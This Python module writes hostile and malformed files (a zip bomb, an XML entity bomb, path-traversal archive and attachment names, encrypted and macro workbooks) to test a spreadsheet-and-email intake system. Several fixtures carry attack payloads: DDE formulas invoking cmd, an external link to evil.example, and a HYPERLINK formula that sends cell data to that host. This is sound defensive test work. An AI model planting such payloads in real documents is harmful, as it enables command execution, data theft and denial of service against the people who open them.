"""Write hostile and broken returned files into a folder, for intake tests.

Why: the intake must be proven against real bytes — real zips, a real entity bomb, a real
msoffcrypto-encrypted workbook, real .eml built with the stdlib, a real VBA project — not
mocks. Each generator is one small function ``name(dir) -> Path``; ``make_all(dir)`` writes
them all and returns ``{case: path}``. Everything stays small on disk (zip bombs are zeros).
"""

from __future__ import annotations

import base64
import importlib.util
import io
import shutil
import zipfile
from collections.abc import Callable
from datetime import datetime, timezone
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import xlsxwriter
from msoffcrypto.format.ooxml import OOXMLFile

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CORPUS = Path(__file__).resolve().parents[1] / "corpus/excel-made"


def workbook_bytes(unit: str = "单位A", formula: str | None = None, rows: int = 5) -> bytes:
    """A small, valid evaluation-like workbook made with xlsxwriter (has sharedStrings).

    Deterministic (fixed created date), so two calls give identical bytes even across a
    clock-second boundary — tests compare attachments against a fresh call.
    """
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    wb.set_properties({"created": datetime(2026, 1, 1, tzinfo=timezone.utc)})
    ws = wb.add_worksheet("绩效指标")
    ws.write_row(0, 0, ["单位", "指标", "目标值", "完成值"])
    for r in range(1, rows + 1):
        ws.write_row(r, 0, [unit, f"指标{r}", 100, 90 + r])
    if formula:
        ws.write_formula(rows + 1, 0, formula)
    wb.close()
    return buf.getvalue()


def _write(d: Path, name: str, data: bytes) -> Path:
    d.mkdir(parents=True, exist_ok=True)
    p = d / name
    p.write_bytes(data)
    return p


def _rewrite(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """Copy an OOXML zip, replacing and adding parts."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, body in add.items():
            dst.writestr(name, body)
    return out.getvalue()


def good_xlsx(d: Path) -> Path:
    return _write(d, "单位A_绩效评价表.xlsx", workbook_bytes("单位A"))


def empty_file(d: Path) -> Path:
    return _write(d, "空文件.xlsx", b"")


def truncated_xlsx(d: Path) -> Path:
    data = workbook_bytes("单位T")
    return _write(d, "截断.xlsx", data[: len(data) // 2])


def png_as_xlsx(d: Path) -> Path:
    png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
    return _write(d, "截图.xlsx", png)


def pdf_as_xlsx(d: Path) -> Path:
    return _write(d, "报告.xlsx", b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n")


def text_as_xlsx(d: Path) -> Path:
    return _write(d, "说明.xlsx", "这是一段文字，不是工作簿。\n".encode())


def rar_archive(d: Path) -> Path:
    return _write(d, "材料.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64)


def zip_bomb(d: Path, members: int = 8, member_mb: int = 30) -> Path:
    """High-ratio members of zeros: 240 MB declared, ~250 KB on disk."""
    path = d / "炸弹.zip"
    d.mkdir(parents=True, exist_ok=True)
    block = b"\0" * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(members):
            with zf.open(f"part{i}.xlsx", "w") as fh:
                for _ in range(member_mb):
                    fh.write(block)
    return path


def zip_many_members(d: Path, members: int = 2500) -> Path:
    path = d / "很多文件.zip"
    d.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for i in range(members):
            zf.writestr(f"f{i}.txt", b"")
    return path


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)


def entity_bomb_xlsx(d: Path) -> Path:
    data = _rewrite(workbook_bytes("单位E"), replace={"xl/sharedStrings.xml": BILLION_LAUGHS})
    return _write(d, "实体炸弹.xlsx", data)


def encrypted_xlsx(d: Path, password: str = "secret") -> Path:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook_bytes("单位K"))).encrypt(password, out)
    return _write(d, "加密.xlsx", out.getvalue())


def macro_xlsm(d: Path) -> Path:
    spec = importlib.util.find_spec("xlwings")
    src = Path(spec.origin).parent / "quickstart.xlsm" if spec and spec.origin else CORPUS / "macro01.xlsm"
    if not src.exists():
        src = CORPUS / "macro01.xlsm"
    d.mkdir(parents=True, exist_ok=True)
    return Path(shutil.copyfile(src, d / "宏.xlsm"))


_EXT_LINK = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns='
             b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
             b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
             b'<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>')
_EXT_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
             b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
             b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
             b'Target="file:///\\\\evil.example\\share\\other.xlsx" TargetMode="External"/></Relationships>')
_DDE_LINK = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns='
             b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
             b'ddeTopic="/c calc"/></externalLink>')


def external_link_xlsx(d: Path) -> Path:
    data = _rewrite(workbook_bytes("单位L"), add={
        "xl/externalLinks/externalLink1.xml": _EXT_LINK,
        "xl/externalLinks/_rels/externalLink1.xml.rels": _EXT_RELS,
        "xl/externalLinks/externalLink2.xml": _DDE_LINK,
    })
    return _write(d, "外部链接.xlsx", data)


def ole_embedding_xlsx(d: Path) -> Path:
    data = _rewrite(workbook_bytes("单位O"), add={
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
        "xl/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        "xl/connections.xml": b'<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    })
    return _write(d, "嵌入对象.xlsx", data)


def dde_formula_xlsx(d: Path) -> Path:
    data = workbook_bytes("单位D", formula="=cmd|' /C calc'!A0")
    return _write(d, "DDE公式.xlsx", data)


def hyperlink_formula_xlsx(d: Path) -> Path:
    data = workbook_bytes("单位H", formula='=HYPERLINK("http://evil.example/?d="&A1,"点击")')
    return _write(d, "超链接公式.xlsx", data)


def huge_sheet_xlsx(d: Path) -> Path:
    """Declares A1:XFD1048576 and has a cell on the last row; tiny on disk."""
    sheet = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns='
             b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
             b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576">'
             b'<v>2</v></c></row></sheetData></worksheet>')
    return _write(d, "超大表.xlsx", _rewrite(workbook_bytes("单位X"), replace={"xl/worksheets/sheet1.xml": sheet}))


def many_rows_xlsx(d: Path, rows: int = 5000) -> Path:
    """Real rows without a declared dimension (reject with a small ``max_sheet_rows``)."""
    body = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(1, rows + 1))
    sheet = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns='
             b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + body
             + b"</sheetData></worksheet>")
    return _write(d, "很多行.xlsx", _rewrite(workbook_bytes("单位R"), replace={"xl/worksheets/sheet1.xml": sheet}))


def traversal_zip(d: Path) -> Path:
    path = d / "穿越.zip"
    d.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("../../evil.xlsx", workbook_bytes("单位Z"))
    return path


def good_zip(d: Path) -> Path:
    """A plain zip: a workbook in a folder, plus a GBK-named member without the UTF-8 flag."""
    path = d / "单位G_材料.zip"
    d.mkdir(parents=True, exist_ok=True)
    gbk = "单位C_报表.xlsx".encode("gbk")
    placeholder = "Q" * (len(gbk) - 5) + ".xlsx"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("材料/单位G_绩效评价表.xlsx", workbook_bytes("单位G"))
        zf.writestr(placeholder, workbook_bytes("单位C"))
        zf.writestr("__MACOSX/._x", b"junk")
    path.write_bytes(buf.getvalue().replace(placeholder.encode(), gbk))
    return path


def _mail(sender: str, subject: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "jxpj@czj.gov.cn"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime(2026, 3, 2, 9, 30, tzinfo=timezone.utc))
    msg["Message-ID"] = f"<{abs(hash(subject)) % 10**8}@dept.gov.cn>"
    msg.set_content("附件是我单位的绩效评价表，请查收。")
    return msg


def eml_no_attachment(d: Path) -> Path:
    return _write(d, "无附件.eml", _mail("张三 <zhangsan@dept-a.gov.cn>", "绩效评价表（忘了附件）").as_bytes())


def eml_rfc2231(d: Path) -> Path:
    msg = _mail("李四 <lisi@dept-b.gov.cn>", "单位B 绩效评价表")
    msg.add_attachment(workbook_bytes("单位B"), maintype="application",
                       subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet", filename="单位B_指标表.xlsx")
    raw = msg.as_bytes()
    assert b"filename*=utf-8''" in raw
    return _write(d, "rfc2231.eml", raw)


def _gbk_word(text: str) -> str:
    return "=?GBK?B?" + base64.b64encode(text.encode("gbk")).decode() + "?="


def _raw_mail(subject_header: bytes, disposition: bytes, payload: bytes) -> bytes:
    body = base64.encodebytes(payload)
    return (b"From: " + _gbk_word("王五").encode() + b" <wangwu@dept-c.gov.cn>\r\n"
            b"To: jxpj@czj.gov.cn\r\nSubject: " + subject_header + b"\r\n"
            b"Date: Mon, 02 Mar 2026 10:00:00 +0800\r\nMessage-ID: <gbk-1@dept-c.gov.cn>\r\n"
            b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"==b==\"\r\n\r\n"
            b"--==b==\r\nContent-Type: text/plain; charset=GBK\r\n\r\n" + "请查收".encode("gbk") + b"\r\n"
            b"--==b==\r\nContent-Type: application/octet-stream\r\n" + disposition + b"\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + body + b"--==b==--\r\n")


def eml_gbk_filename(d: Path) -> Path:
    """Non-standard RFC 2047 GBK encoded-word inside a quoted filename; GBK subject."""
    disp = f'Content-Disposition: attachment; filename="{_gbk_word("单位C_指标表.xlsx")}"'.encode()
    return _write(d, "gbk.eml", _raw_mail(_gbk_word("单位C 绩效评价表").encode(), disp, workbook_bytes("单位C")))


def eml_raw_gbk(d: Path) -> Path:
    """Raw 8-bit GBK bytes in the Subject and filename headers (old Chinese clients)."""
    disp = b'Content-Disposition: attachment; filename="' + "单位D_指标表.xlsx".encode("gbk") + b'"'
    return _write(d, "rawgbk.eml", _raw_mail("单位D 绩效评价表".encode("gbk"), disp, workbook_bytes("单位D")))


def eml_forwarded(d: Path) -> Path:
    """An outer mail forwarding (message/rfc822) an inner mail that carries the workbook."""
    inner = _mail("赵六 <zhaoliu@dept-f.gov.cn>", "原始邮件")
    inner.add_attachment(workbook_bytes("单位F"), maintype="application",
                         subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet", filename="单位F.xlsx")
    outer = _mail("办公室 <office@dept-f.gov.cn>", "转发：单位F 绩效评价表")
    outer.add_attachment(inner)
    return _write(d, "forward.eml", outer.as_bytes())


def eml_duplicates(d: Path) -> list[Path]:
    """Two mails carrying byte-identical workbooks (a department sent twice)."""
    data = workbook_bytes("单位S")
    paths = []
    for i in (1, 2):
        msg = _mail("孙七 <sunqi@dept-s.gov.cn>", f"单位S 绩效评价表 第{i}次")
        msg.add_attachment(data, maintype="application",
                           subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet", filename="单位S.xlsx")
        paths.append(_write(d, f"dup{i}.eml", msg.as_bytes()))
    return paths


def eml_hostile_attachment(d: Path) -> Path:
    """A mail whose attachment name tries path traversal and a reserved device name."""
    msg = _mail("周八 <zhouba@dept-z.gov.cn>", "附件名攻击")
    msg.add_attachment(workbook_bytes("单位Y"), maintype="application",
                       subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet", filename="..\\..\\CON.xlsx")
    return _write(d, "badname.eml", msg.as_bytes())


_END, _FREE, _FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def cfb_bytes(streams: dict[str, bytes]) -> bytes:
    """A minimal but valid OLE/CFB v3 file with root-level streams (each padded to 4 KiB so
    no mini stream is needed). Enough to build .msg-like and Word-like containers."""
    import struct

    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    datas = [streams[n].ljust(4096, b"\0") for n in names]
    n_dir = -(-(len(names) + 1) // 4)
    fat = [_FATSECT] + [(1 + i + 1) if i + 1 < n_dir else _END for i in range(n_dir)]
    starts = []
    for data in datas:
        count = len(data) // 512 + (1 if len(data) % 512 else 0)
        start = len(fat)
        starts.append(start)
        fat += [start + j + 1 for j in range(count - 1)] + [_END]
    assert len(fat) <= 128, "fixture too large for one FAT sector"
    fat += [_FREE] * (128 - len(fat))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBB3I", len(raw), kind, 1, _FREE, right, child)
                + b"\0" * 36 + struct.pack("<IQ", start, size))

    dirs = [entry("Root Entry", 5, _FREE, 1 if names else _FREE, _END, 0)]
    for i, (name, data) in enumerate(zip(names, datas, strict=True)):
        right = i + 2 if i + 1 < len(names) else _FREE
        dirs.append(entry(name, 2, right, _FREE, starts[i], len(data)))
    dir_bytes = b"".join(dirs).ljust(n_dir * 512, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108)
    body = struct.pack("<128I", *fat) + dir_bytes + b"".join(d.ljust(-(-len(d) // 512) * 512, b"\0") for d in datas)
    return header + body


def fake_msg(d: Path) -> Path:
    """An Outlook-.msg-shaped OLE file (``__substg1.0_`` property streams)."""
    return _write(d, "回复.msg", cfb_bytes({
        "__substg1.0_0037001F": "绩效评价表".encode("utf-16-le"),
        "__substg1.0_1000001F": "请查收".encode("utf-16-le"),
        "__properties_version1.0": b"\0" * 32,
    }))


def ole_word(d: Path) -> Path:
    """An OLE file that is neither a workbook nor a mail (Word-like)."""
    return _write(d, "旧文档.xls", cfb_bytes({"WordDocument": b"\xec\xa5" + b"\0" * 100}))


GENERATORS: dict[str, Callable[[Path], Path]] = {
    "good_xlsx": good_xlsx, "empty": empty_file, "truncated": truncated_xlsx, "png": png_as_xlsx,
    "pdf": pdf_as_xlsx, "text": text_as_xlsx, "rar": rar_archive, "zip_bomb": zip_bomb,
    "zip_many": zip_many_members, "entity_bomb": entity_bomb_xlsx, "encrypted": encrypted_xlsx,
    "xlsm": macro_xlsm, "external_link": external_link_xlsx, "ole_embedding": ole_embedding_xlsx,
    "dde": dde_formula_xlsx, "hyperlink": hyperlink_formula_xlsx, "huge_sheet": huge_sheet_xlsx,
    "traversal_zip": traversal_zip, "good_zip": good_zip, "eml_no_attachment": eml_no_attachment,
    "eml_rfc2231": eml_rfc2231, "eml_gbk": eml_gbk_filename, "eml_raw_gbk": eml_raw_gbk,
    "eml_forwarded": eml_forwarded, "eml_badname": eml_hostile_attachment,
    "msg": fake_msg, "ole_word": ole_word,
}


def make_all(d: Path) -> dict[str, Path]:
    """Write every case into ``d``; returns ``{case: path}`` (duplicates as dup1/dup2)."""
    out = {name: gen(d) for name, gen in GENERATORS.items()}
    out["dup1"], out["dup2"] = eml_duplicates(d)
    return out
